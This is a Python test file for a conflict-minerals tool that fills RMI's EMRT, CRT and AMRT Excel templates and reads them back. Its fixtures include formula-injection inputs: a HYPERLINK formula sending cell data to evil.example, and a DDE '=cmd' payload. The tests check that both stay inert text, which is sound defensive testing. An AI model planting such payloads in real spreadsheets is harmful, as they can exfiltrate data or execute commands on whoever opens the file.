"""The company's own EMRT, CRT and AMRT: RMI's blank workbook patched in place and read back (#12 items 1, 5)."""

from __future__ import annotations

import datetime as dt
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from conflict_minerals.cmrt import templates
from conflict_minerals.cmrt.extended import read_extended
from conflict_minerals.cmrt.extended_writer import ExtendedFill, GivenAnswer, lookup_ids, template_of, write_extended
from conflict_minerals.model import Company, MineralSmelterRow, MineRow, Product
from conflict_minerals.program.schema import smelter_rows, submissions
from conflict_minerals.program.workspace import open_workspace
from conflict_minerals.service.templates import export_company_extended
from tests.conftest import FULL_DECLARATION, cmrt_template, template_path
from tests.workspace_fixtures import Program

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# LibreOffice recalculates an Excel-saved .xlsx only when told to (Excel itself honours fullCalcOnLoad).
RECALCULATE_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
COMPANY = Company(
    name="Northwind Instruments, Inc.",
    declaration_scope="A",
    unique_id="123456789",
    unique_id_authority="DUNS",
    address="1 Main Street, Springfield",
    contact_name="Dana Lee",
    contact_email="dana@northwind.example",
    contact_phone="+1 555 0100",
    authorizer_name="Sam Ortiz",
    authorizer_title="VP Compliance",
    authorizer_email="sam@northwind.example",
    authorizer_phone="+1 555 0101",
    effective_date=dt.date(2026, 3, 2),
)
# template file, minerals declared
CASES = {
    "RMI_EMRT_1.3.xlsx": ("Cobalt", "Mica"),
    "RMI_EMRT_2.0.xlsx": ("Nickel", "Cobalt", "Lithium"),
    "RMI_EMRT_2.1.xlsx": ("Mica", "Copper", "Graphite", "Cobalt"),
    "RMI_CRT_2.21.xlsx": ("Cobalt",),
    "RMI_AMRT_1.2.xlsx": ("Zinc", "Silver"),
    "RMI_AMRT_1.3.xlsx": ("Zinc", "Palladium", "Cobalt"),  # Cobalt is not on AMRT 1.3's list: an "Other"
}


def _layout(path: Path) -> templates.ExtendedLayout:
    return templates.layout_for(*template_of(path))[0]


def _listed(blank: Path, minerals: tuple[str, ...]) -> tuple[str, str]:
    """A mineral declared and a Smelter ID the template's look-up lists for it (any ID without a look-up)."""
    known = lookup_ids(blank)
    if known is None:
        return minerals[0], "CID003209"
    return next((m, min(known[m.casefold()])) for m in minerals if known.get(m.casefold()))


def _full_fill(spec: templates.ExtendedLayout, minerals: tuple[str, ...], blank: Path) -> ExtendedFill:
    """Every question answered 'Yes' (or its first option), a facility per mineral, a mine and a product."""
    answers = tuple(
        GivenAnswer(q.key, m, "Yes" if "Yes" in q.options else q.options[0], f"{q.key} note")
        for q in spec.questions
        for m in minerals
        if q.minerals is None or m in q.minerals
    )
    company = []
    for q in spec.company_questions:
        value = "Yes" if "Yes" in q.options else q.options[0]
        targets = minerals if q.per_mineral else (None,)
        company += [GivenAnswer(q.key, m, value, "https://northwind.example/policy") for m in targets]
    smelters = [MineralSmelterRow(0, m, None, "Smelter not listed", f"{m} Works", "CHINA") for m in minerals]
    smelters[-1] = MineralSmelterRow(0, minerals[-1], None, "Smelter not listed", HOSTILE, "CHINA")
    mineral, smelter_id = _listed(blank, minerals)
    smelters.append(MineralSmelterRow(0, mineral, smelter_id, None, HOSTILE, "GERMANY"))
    mines = (MineRow(0, minerals[0], f"{minerals[0]} Works", "Hill Mine", "M-1", "CANADA", "=1+1"),)
    products = (Product(0, "NW-100", "Probe", "=cmd|' /C calc'!A0"),)
    return ExtendedFill(COMPANY, minerals, answers, tuple(company), tuple(smelters), mines, products)


@pytest.mark.parametrize("name", sorted(CASES))
def test_written_declaration_reads_back(name: str, tmp_path: Path) -> None:
    blank = template_path(name)
    spec = _layout(blank)
    minerals = spec.fixed_minerals or CASES[name]
    fill = _full_fill(spec, minerals, blank)
    out = tmp_path / name
    write_extended(blank, out, fill)
    document = read_extended(out)
    for field in ("name", "declaration_scope", "unique_id", "contact_email", "authorizer_name", "effective_date"):
        assert getattr(document.company, field) == getattr(COMPANY, field), field
    assert sorted(document.minerals, key=str.casefold) == sorted(minerals, key=str.casefold)
    read = {(a.question, a.mineral): (a.value, a.comment) for a in document.answers}
    assert read == {(a.question, a.mineral): (a.value, a.comment) for a in fill.answers}
    read_company = {(a.question, a.mineral): a.value for a in document.company_answers}
    assert read_company == {(a.question, a.mineral): a.value for a in fill.company_answers}
    rows = [(r.mineral, r.smelter_id, r.name, r.country) for r in document.smelters]
    listed = [r for r in fill.smelters if r.smelter_id]
    assert [(r.mineral, None, r.name, r.country) for r in fill.smelters if not r.smelter_id] == rows[: len(minerals)]
    assert rows[len(minerals)][:2] == (listed[0].mineral, listed[0].smelter_id)
    if spec.mine_list:
        assert [(m.mineral, m.smelter_name, m.mine_name) for m in document.mines] == [
            (m.mineral, m.smelter_name, m.mine_name) for m in fill.mines
        ]
    assert [(p.number, p.name, p.comments) for p in document.products] == [("NW-100", "Probe", "=cmd|' /C calc'!A0")]
    assert not [f for f in document.findings if f.severity.value == "error"], document.findings


@pytest.mark.parametrize("name", ["RMI_EMRT_2.1.xlsx", "RMI_AMRT_1.3.xlsx"])
def test_supplier_text_stays_text_and_openpyxl_opens_it(name: str, tmp_path: Path) -> None:
    blank = template_path(name)
    spec = _layout(blank)
    out = tmp_path / name
    write_extended(blank, out, _full_fill(spec, CASES[name], blank))
    with zipfile.ZipFile(out) as archive:
        sheets = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
        assert "xl/calcChain.xml" not in archive.namelist()
    assert b"<f>HYPERLINK" not in sheets and b"<f>cmd" not in sheets
    book = openpyxl.load_workbook(out)
    row = len(CASES[name]) + 4  # the last "not listed" row
    assert book["Smelter List"][f"D{row}"].value == HOSTILE
    assert book["Smelter List"][f"D{row}"].data_type == "s"
    assert book["Declaration"]["D8"].value == COMPANY.name


def test_rows_of_an_unselected_mineral_move_with_the_selection(tmp_path: Path) -> None:
    """EMRT 2.1 without Copper and Lithium: answer rows 30-33 are Cobalt, Graphite, Mica, Nickel (§8.2)."""
    blank = template_path("RMI_EMRT_2.1.xlsx")
    fill = ExtendedFill(
        COMPANY,
        ("Nickel", "Graphite", "Cobalt", "Mica"),
        tuple(GivenAnswer("Q1", m, v) for m, v in (("Cobalt", "Yes"), ("Graphite", "No"), ("Nickel", "Unknown"))),
    )
    out = tmp_path / "four.xlsx"
    write_extended(blank, out, fill)
    sheet = openpyxl.load_workbook(out)["Declaration"]
    assert [sheet[c].value for c in ("D12", "E12", "G12", "D13", "E13", "G13")] == [
        "Cobalt",
        "(Delete Copper)",
        "Graphite",
        "(Delete Lithium)",
        "Mica",
        "Nickel",
    ]
    assert [sheet[f"D{r}"].value for r in range(30, 34)] == ["Yes", "No", None, "Unknown"]
    assert read_extended(out).answer("Nickel", "Q1").value == "Unknown"  # type: ignore[union-attr]


def test_an_id_the_template_does_not_list_is_written_as_not_listed(tmp_path: Path) -> None:
    rows = (
        MineralSmelterRow(0, "Cobalt", "cid003209", None, "Kept By ID", "CHINA"),
        MineralSmelterRow(0, "Mica", "CID003209", None, "Mica Mill", "INDIA"),  # a cobalt ID, not a mica one
    )
    out = tmp_path / "emrt.xlsx"
    write_extended(template_path("RMI_EMRT_2.1.xlsx"), out, ExtendedFill(COMPANY, ("Cobalt", "Mica"), smelters=rows))
    first, second = read_extended(out).smelters
    assert (first.mineral, first.smelter_id, first.lookup_name) == ("Cobalt", "CID003209", None)
    assert (second.mineral, second.smelter_id, second.not_listed, second.name, second.country) == (
        "Mica",
        None,
        True,
        "Mica Mill",
        "INDIA",
    )
    assert "CID003209 is not in this template's Smelter Look-up" in (second.comments or "")


def test_a_mineral_the_template_does_not_offer_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="offers only"):
        write_extended(template_path("RMI_EMRT_2.1.xlsx"), tmp_path / "x.xlsx", ExtendedFill(COMPANY, ("Zinc",)))
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("name", sorted(CASES))
def test_rmi_checker_finds_nothing_missing_after_recalculation(name: str, tmp_path: Path) -> None:
    """RMI's Checker, recalculated, counts no open item and shows no error the blank does not show itself."""
    blank = template_path(name)
    spec = _layout(blank)
    written = tmp_path / "written.xlsx"
    write_extended(blank, written, _full_fill(spec, spec.fixed_minerals or CASES[name], blank))
    shutil.copyfile(blank, tmp_path / "blank.xlsx")
    profile = tmp_path / "lo"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALCULATE_ALWAYS, encoding="utf-8")
    assert SOFFICE is not None
    command = [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--calc", "--convert-to", "xlsx"]
    files = [str(written), str(tmp_path / "blank.xlsx")]
    subprocess.run([*command, "--outdir", str(tmp_path / "out"), *files], check=True, capture_output=True, timeout=300)
    checker = openpyxl.load_workbook(tmp_path / "out" / "written.xlsx", data_only=True)["Checker"]
    column = next(c.column_letter for c in checker[3] if c.value == "incomplete")
    open_items = [c.coordinate for c in checker[column][3:] if isinstance(c.value, (int, float)) and c.value]
    assert open_items == []
    assert _errors(checker) <= _errors(
        openpyxl.load_workbook(tmp_path / "out" / "blank.xlsx", data_only=True)["Checker"]
    )


def _errors(sheet: object) -> set[str]:
    """The cells showing an Excel error (#N/A, #REF! ...)."""
    rows = sheet.iter_rows()  # type: ignore[attr-defined]
    return {c.coordinate for row in rows for c in row if isinstance(c.value, str) and c.value.startswith("#")}


def test_import_template_takes_every_extended_blank(program: Program) -> None:
    for name in ("RMI_EMRT_2.1.xlsx", "RMI_CRT_2.21.xlsx", "RMI_AMRT_1.2.xlsx", "RMI_AMRT_1.3.xlsx"):
        kind = name.split("_")[1]
        result = program("refdata", "import-template", template_path(name))
        assert f"RMI {kind} " in result.output and "imported as trusted" in result.output


def test_export_emrt_end_to_end(program: Program, tmp_path: Path) -> None:
    missing = program("export-emrt", "--year", "2025", ok=False)
    assert missing.exit_code == 2
    assert "refdata import-template" in missing.stderr and len(missing.stderr.strip().splitlines()) == 1
    program("refdata", "import-template", template_path("RMI_EMRT_2.0.xlsx"))
    program("refdata", "import-template", template_path("RMI_EMRT_2.1.xlsx"))
    out = tmp_path / "emrt.xlsx"
    result = program("export-emrt", "--year", "2025", "--mineral", "cobalt", "--mineral", "Mica", "--out", out)
    assert "RMI EMRT 2.1 template" in result.output and "Cobalt, Mica" in result.output  # the newest revision
    document = read_extended(out)
    assert document.company.name == "Acme Devices Inc."
    assert document.company.contact_email == "compliance@acme.example"
    assert document.minerals == ("Cobalt", "Mica")
    assert {a.value for a in document.answers if a.question == "Q1"} == {"Unknown"}  # nothing establishes use
    assert all(a.value is None for a in document.company_answers)  # nobody confirmed the company questions
    answers = json.loads(program("export-emrt", "--mineral", "Cobalt", "--out", out, "--json").output)
    assert {"question": "Q1", "mineral": "Cobalt", "answer": "Unknown"}.items() <= answers[0].items()
    events = [e["kind"] for e in json.loads(program("log", "--json").output)]
    assert events.count("export.company_emrt") == 2


def test_export_emrt_refusals(program: Program, tmp_path: Path) -> None:
    wrong = program("export-emrt", "--template", cmrt_template("6.5"), "--out", tmp_path / "x.xlsx", ok=False)
    assert wrong.exit_code == 2 and "not an EMRT" in wrong.stderr
    program("refdata", "import-template", template_path("RMI_AMRT_1.3.xlsx"))
    unnamed = program("export-emrt", "--type", "AMRT", "--out", tmp_path / "a.xlsx", ok=False)
    assert unnamed.exit_code == 2 and "name at least one" in unnamed.stderr
    unknown = program("export-emrt", "--mineral", "Zinc", "--template", template_path("RMI_EMRT_2.1.xlsx"), ok=False)
    assert unknown.exit_code == 2 and "has no Zinc" in unknown.stderr
    assert not (tmp_path / "x.xlsx").exists() and not (tmp_path / "a.xlsx").exists()


def test_service_writes_the_facilities_named_for_the_declared_minerals(program: Program, tmp_path: Path) -> None:
    program("refdata", "import-template", template_path("RMI_AMRT_1.3.xlsx"))
    rows = (
        MineralSmelterRow(7, "zinc", None, "Smelter not listed", HOSTILE, "PERU"),
        MineralSmelterRow(8, "Zinc", None, "Smelter not listed", HOSTILE, "PERU"),  # the same facility again
        MineralSmelterRow(9, "Silver", "CID000001", None, "Silver Co", "MEXICO"),
        MineralSmelterRow(3, "Tin", "CID000002", None, "Not declared", "BOLIVIA"),
    )
    workspace = open_workspace(program.root)
    try:
        result = export_company_extended(workspace, "AMRT", 2025, tmp_path / "amrt.xlsx", (), rows)
    finally:
        workspace.close()
    assert result.minerals == ("Zinc", "Silver", "Tin") and result.smelter_rows == 3
    document = read_extended(tmp_path / "amrt.xlsx")
    assert [(r.mineral, r.name) for r in document.smelters][:2] == [("Zinc", HOSTILE), ("Silver", "Silver Co")]
    assert {a.mineral: a.value for a in document.answers if a.question == "Q1"}["Silver"] == "Yes"


def test_export_emrt_lists_the_facilities_of_the_suppliers_current_emrts(
    program: Program, build_cmrt, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """Stored as the EMRT storage stores them (template_type on the submission, the mineral in `metal`)."""
    program("suppliers", "add", "Acme Components Ltd.", "--unique-id", "123456789")
    program("campaign", "start", "2025")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copyfile(build_cmrt("6.5", FULL_DECLARATION), inbox / "acme.xlsx")
    program("ingest", inbox)
    workspace = open_workspace(program.root)
    try:
        with workspace.transaction() as connection:
            connection.execute(update(submissions).values(template_type="EMRT"))
            connection.execute(update(smelter_rows).where(smelter_rows.c.metal == "Tin").values(metal="Mica"))
            connection.execute(update(smelter_rows).where(smelter_rows.c.metal != "Mica").values(metal="Cobalt"))
            stored = connection.execute(select(smelter_rows.c.metal, smelter_rows.c.smelter_id)).all()
    finally:
        workspace.close()
    program("refdata", "import-template", template_path("RMI_EMRT_2.1.xlsx"))
    out = tmp_path / "emrt.xlsx"
    result = program("export-emrt", "--year", "2025", "--mineral", "Cobalt", "--out", out)
    document = read_extended(out)
    assert document.smelters and {row.mineral for row in document.smelters} == {"Cobalt"}  # Mica is not declared
    expected_ids = {sid for metal, sid in stored if metal == "Cobalt" and sid}
    assert expected_ids and {row.smelter_id for row in document.smelters if row.smelter_id} <= expected_ids
    # these are 3TG IDs relabelled as cobalt: not in the EMRT's cobalt look-up, so written as not listed, ID noted
    noted = " ".join(row.comments or "" for row in document.smelters if row.not_listed)
    assert all(sid in noted for sid in expected_ids)
    assert "Nowhere Tantalum Works" in {row.name for row in document.smelters if row.not_listed}
    assert document.answer("Cobalt", "Q1").value == "Yes"  # type: ignore[union-attr]
    assert f"{len(document.smelters)} smelter rows" in result.output
    assert program("export-emrt", "--year", "2024", "--out", out).output.count(" 0 smelter rows") == 1


def test_an_id_written_another_way_is_the_look_up_s_id() -> None:
    from conflict_minerals.cmrt.extended_writer import _as_listed
    from conflict_minerals.model import MineralSmelterRow

    known = lookup_ids(template_path("RMI_EMRT_2.1.xlsx"))
    assert known
    listed = min(known["cobalt"])
    loose = "CID " + listed.removeprefix("CID").lstrip("0")  # as suppliers type it: 'CID 3209'
    row = MineralSmelterRow(row=5, mineral="Cobalt", smelter_id=loose, lookup_name=None, name="x", country=None)
    written = _as_listed(row, known)
    assert written.smelter_id == listed and written.lookup_name is None
